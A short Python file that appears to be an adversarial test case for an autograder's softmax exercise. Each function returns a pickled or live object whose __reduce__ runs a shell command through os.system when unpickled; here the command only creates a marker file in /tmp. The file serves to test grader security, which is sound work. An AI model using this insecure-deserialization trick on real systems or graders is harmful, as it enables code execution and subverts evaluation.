# attack: Returns a pickle, and objects that run code when they are unpickled.
# exercise: 02, reason: wrong-result
import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/ATTNGRADE_WAS_HERE",))


def act(*_):
    return [pickle.dumps(Bomb()), Bomb()][act.__code__.co_argcount]


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
